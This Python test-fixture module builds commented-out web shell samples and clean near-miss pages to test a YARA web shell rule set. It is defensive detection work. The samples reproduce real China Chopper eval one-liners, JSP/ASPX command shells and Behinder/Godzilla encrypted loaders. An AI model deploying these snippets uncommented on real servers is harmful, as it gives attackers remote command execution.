"""Inert samples and near-misses for signatures/rules/webshells.yar."""

from __future__ import annotations

from sample_blocks import INERT_NOTE, Builders, text


def china_chopper() -> dict[str, bytes]:
    # Each one-liner sits inside a server-side comment, so the page would run nothing.
    return {
        "chopper-php": text(f"<?php /* {INERT_NOTE}: @eval($_POST['pw']); */ ?>"),
        "chopper-aspx": text(
            f"<%-- {INERT_NOTE}",
            '<%@ Page Language="Jscript"%><%eval(Request.Item["pw"],"unsafe");%>',
            "--%>",
        ),
    }


def wso() -> dict[str, bytes]:
    return {
        "wso-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "define('WSO_VERSION', '2.5');",
            "$default_action = 'FilesMan';",
            "function wsoLogin() {}",
            "function wsoHeader() {}",
            "function wsoFooter() {}",
            "function wsoEx($in) {}",
            "function wsoPerms($p) {}",
            "function wsoViewSize($s) {}",
            "function actionSecInfo() {}",
            "function actionFilesMan() {}",
            "function actionConsole() {}",
            "function actionBruteforce() {}",
            "function actionSelfRemove() {}",
            "*/",
        )
    }


def c99() -> dict[str, bytes]:
    return {
        "c99-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "!C99Shell v. 1.0",
            '$c99sh_surl = "";',
            "function c99_buff_prepare() {}",
            "function c99_sess_put($data) {}",
            "function c99ftpbrutecheck($host, $port, $timeout, $login, $pass) {}",
            "function c99fsearch($d) {}",
            "function c99shexit() {}",
            "function c99sh_getupdate() {}",
            "*/",
        )
    }


def r57() -> dict[str, bytes]:
    return {
        "r57-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "r57shell - http://rst.void.ru",
            "$lang=array('ru_text1' => '', 'eng_text1' => '');",
            '$back_connect = "";',
            '$datapipe_c = "";',
            '$bind_port_c = "";',
            "*/",
        )
    }


def behinder() -> dict[str, bytes]:
    return {
        "behinder-jsp": text(
            f"<%-- {INERT_NOTE}",
            '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>',
            "<%!class U extends ClassLoader{U(ClassLoader c){super(c);}",
            "public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>",
            '<%if (request.getMethod().equals("POST")){String k="0123456789abcdef";',
            'session.putValue("u",k);Cipher c=Cipher.getInstance("AES");',
            'c.init(2,new SecretKeySpec(k.getBytes(),"AES"));',
            "String body=request.getReader().readLine();",
            "new U(this.getClass().getClassLoader()).g(c.doFinal(body.getBytes()))"
            ".newInstance().equals(pageContext);}%>",
            "--%>",
        )
    }


def godzilla() -> dict[str, bytes]:
    return {
        "godzilla-jsp": text(
            f"<%-- {INERT_NOTE}",
            '<%! String xc="3c6e0b8a9c15224a"; String pass="pass"; String md5=md5(pass+xc);',
            "class X extends ClassLoader{public X(ClassLoader z){super(z);}}",
            "public byte[] x(byte[] s,boolean m){ return s; }%>",
            '<% Object p = session.getAttribute("payload"); %>',
            "--%>",
        )
    }


def jsp_cmd() -> dict[str, bytes]:
    return {
        "cmd-jsp": text(
            f"<%-- {INERT_NOTE}",
            '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));',
            "java.io.InputStream in = p.getInputStream();",
            'out.println(new java.util.Scanner(in).useDelimiter("\\\\A").next()); %>',
            "--%>",
        )
    }


def chopper_asp() -> dict[str, bytes]:
    return {
        "chopper-asp": text(f"<%-- {INERT_NOTE}", '<%eval request("pw")%>', "--%>"),
        "chopper-asp-execute": text(f"<%-- {INERT_NOTE}", '<%execute(request("pw"))%>', "--%>"),
    }


def wso_packed() -> dict[str, bytes]:
    return {
        "wso-packed": text(
            f"<?php exit; /* {INERT_NOTE}",
            '$auth_pass = "00000000000000000000000000000000";',
            '$color = "#df5";',
            "$default_action = 'FilesMan';",
            "$default_use_ajax = true;",
            "$default_charset = 'Windows-1251';",
            'preg_replace("/.*/e","\\x65\\x76\\x61\\x6C\\x28","");',
            "*/",
        )
    }


def r57_backconnect() -> dict[str, bytes]:
    return {
        "r57-backconnect": text(
            f"<?php exit; /* {INERT_NOTE}",
            '$back_connect="IyEvdXNyL2Jpbi9wZXJsDQo=";',
            '$bind_port_p="IyEvdXNyL2Jpbi9wZXJsDQo=";',
            "*/",
        )
    }


def behinder_php() -> dict[str, bytes]:
    return {
        "behinder-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            '$key="0123456789abcdef";',
            "$_SESSION['k']=$key;",
            '$post=file_get_contents("php://input");',
            "for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i+1&15]; }",
            '$post=openssl_decrypt($post, "AES128", $key);',
            'class C{public function __invoke($p) {eval($p."");}}',
            "*/",
        )
    }


def behinder_aspx() -> dict[str, bytes]:
    return {
        "behinder-aspx": text(
            '<%@ Page Language="C#" %>',
            f"<%-- {INERT_NOTE}",
            '<%Session.Add("k","0123456789abcdef"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),',
            "c = Request.BinaryRead(Request.ContentLength);",
            "Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)",
            '.TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>',
            "--%>",
        )
    }


def godzilla_php() -> dict[str, bytes]:
    return {
        "godzilla-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "function encode($D,$K){",
            "    for($i=0;$i<strlen($D);$i++) { $c = $K[$i+1&15]; $D[$i] = $D[$i]^$c; }",
            "    return $D;",
            "}",
            "$pass='pass';",
            "$payloadName='payload';",
            "$key='3c6e0b8a9c15224a';",
            "echo substr(md5($pass.$key),0,16);",
            "*/",
        )
    }


def godzilla_aspx() -> dict[str, bytes]:
    return {
        "godzilla-aspx": text(
            '<%@ Page Language="C#"%>',
            f"<%-- {INERT_NOTE}",
            'string key = "3c6e0b8a9c15224a"; string pass = "pass";',
            "string md5 = System.BitConverter.ToString(new System.Security.Cryptography.MD5CryptoServiceProvider()"
            ".ComputeHash(System.Text.Encoding.Default.GetBytes(pass + key)));",
            "data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)"
            ".TransformFinalBlock(data, 0, 1);",
            'if (Context.Session["payload"] == null) { }',
            'object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY");',
            "--%>",
        )
    }


def aspx_cmd() -> dict[str, bytes]:
    return {
        "cmd-aspx": text(
            '<%@ Page Language="C#" %>',
            f"<%-- {INERT_NOTE}",
            'ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]);',
            "Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());",
            "--%>",
        )
    }


def jspx_cmd() -> dict[str, bytes]:
    return {
        "cmd-jspx": text(
            '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">',
            f"<!-- {INERT_NOTE}",
            "<jsp:scriptlet>",
            'Process p = Runtime.getRuntime().exec(request.getParameter("c"));',
            "</jsp:scriptlet>",
            "-->",
            "</jsp:root>",
        )
    }


SAMPLES: Builders = {
    "JSPX_Cmd_WebShell": jspx_cmd,
    "ChinaChopper_ASP_Classic": chopper_asp,
    "WSO_Packed_Loader": wso_packed,
    "R57_BackConnect_Payloads": r57_backconnect,
    "Behinder_PHP_WebShell": behinder_php,
    "Behinder_ASPX_WebShell": behinder_aspx,
    "Godzilla_PHP_WebShell": godzilla_php,
    "Godzilla_ASPX_WebShell": godzilla_aspx,
    "ASPX_Cmd_WebShell": aspx_cmd,
    "ChinaChopper_OneLiner": china_chopper,
    "WSO_WebShell": wso,
    "C99_WebShell": c99,
    "R57_WebShell": r57,
    "Behinder_JSP_WebShell": behinder,
    "Godzilla_JSP_WebShell": godzilla,
    "JSP_Cmd_WebShell": jsp_cmd,
}

# ---------------------------------------------------------------- near-misses: clean pages


def nm_php_eval_constant() -> dict[str, bytes]:
    return {
        "php-eval-constant": text("<?php", "$x = eval('return 2;');", "$id = (int) $_POST['id'];", "echo $x + $id;"),
        "aspx-jscript-page": text(
            '<%@ Page Language="Jscript"%>',
            '<% var v = Request.Item["q"]; Response.Write(Server.HtmlEncode(v)); %>',
        ),
    }


def nm_asp_request() -> dict[str, bytes]:
    return {
        "asp-request": text(
            '<% Dim q : q = request("q") %>',
            "<% Response.Write Server.HTMLEncode(q) %>",
            '<% eval_mode = request("mode") %>',
        )
    }


def nm_file_manager() -> dict[str, bytes]:
    # A legitimate PHP file manager: an action dispatcher and its default action.
    return {
        "file-manager": text(
            "<?php",
            "define('FM_VERSION', '2.5');",
            "$default_action = 'FilesMan';",
            "$auth_pass = '';",
            "function actionFilesMan() {}",
            "function actionConsole() {}",
            "function fmHeader() {}",
            "function fmFooter() {}",
        )
    }


def nm_shell_docs_page() -> dict[str, bytes]:
    return {
        "security-docs": text(
            "<?php /* Page about old web shells: c99shell, r57shell, rst.void.ru. */ ?>",
            "<p>Look for the $back_connect variable and the ru_text and eng_text arrays.</p>",
            "<p>c99_buff_prepare is one of its helpers.</p>",
        )
    }


def nm_jsp_crypto() -> dict[str, bytes]:
    # Legitimate JSP using AES and a custom class loader, and one running a fixed command.
    return {
        "jsp-crypto": text(
            '<%@page import="javax.crypto.*"%>',
            '<%! class PluginLoader extends ClassLoader { } String xc = "settings"; %>',
            '<% Cipher c = Cipher.getInstance("AES"); String pass = request.getParameter("p"); %>',
            '<% session.setAttribute("user", pass); %>',
        ),
        "jsp-uptime": text(
            '<%@page import="java.io.*"%>',
            '<% Process p = Runtime.getRuntime().exec("uptime"); %>',
            "<% java.io.InputStream in = p.getInputStream(); out.println(in.read()); %>",
        ),
    }


def nm_jspx_page() -> dict[str, bytes]:
    return {
        "status-jspx": text(
            '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">',
            "<jsp:scriptlet>",
            'Process p = Runtime.getRuntime().exec("uptime");',
            'String who = request.getParameter("name");',
            "</jsp:scriptlet>",
            "</jsp:root>",
        )
    }


def nm_php_crypto() -> dict[str, bytes]:
    return {
        "php-webhook": text(
            "<?php",
            '$key = "0123456789abcdef";',
            '$post = file_get_contents("php://input");',
            '$plain = openssl_decrypt($post, "AES-128-CBC", $key, 0, $iv);',
            "$_SESSION['last'] = time();",
        ),
        "php-xor-helper": text(
            "<?php",
            "function encode($data, $key) { return $data ^ $key; }",
            "$payloadName = 'report';",
            "echo md5($user.$salt);",
        ),
    }


def nm_aspx_crypto() -> dict[str, bytes]:
    return {
        "aspx-crypto": text(
            '<%@ Page Language="C#" %>',
            "<% var aes = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, iv); %>",
            '<% Session["payload"] = null; var a = Assembly.Load("System.Web"); %>',
            "<% var h = new MD5CryptoServiceProvider().ComputeHash(b); %>",
        ),
        "aspx-process": text(
            '<%@ Page Language="C#" %>',
            '<% var psi = new ProcessStartInfo("cmd.exe", "/c dir C:\\inetpub"); %>',
            "<% Response.Write(Process.Start(psi).StandardOutput.ReadToEnd()); %>",
        ),
    }


def nm_perl_b64() -> dict[str, bytes]:
    return {
        "php-b64-assets": text(
            "<?php",
            '$logo = "IyEvdXNyL2Jpbi9wZXJs";',
            '$back_link = "index.php";',
        )
    }


NEARMISS: Builders = {
    "ChinaChopper_OneLiner": nm_php_eval_constant,
    "ChinaChopper_ASP_Classic": nm_asp_request,
    "WSO_WebShell": nm_file_manager,
    "WSO_Packed_Loader": nm_file_manager,
    "C99_WebShell": nm_shell_docs_page,
    "R57_WebShell": nm_shell_docs_page,
    "R57_BackConnect_Payloads": nm_perl_b64,
    "Behinder_JSP_WebShell": nm_jsp_crypto,
    "Behinder_PHP_WebShell": nm_php_crypto,
    "Behinder_ASPX_WebShell": nm_aspx_crypto,
    "Godzilla_JSP_WebShell": nm_jsp_crypto,
    "Godzilla_PHP_WebShell": nm_php_crypto,
    "Godzilla_ASPX_WebShell": nm_aspx_crypto,
    "JSP_Cmd_WebShell": nm_jsp_crypto,
    "JSPX_Cmd_WebShell": nm_jspx_page,
    "ASPX_Cmd_WebShell": nm_aspx_crypto,
}
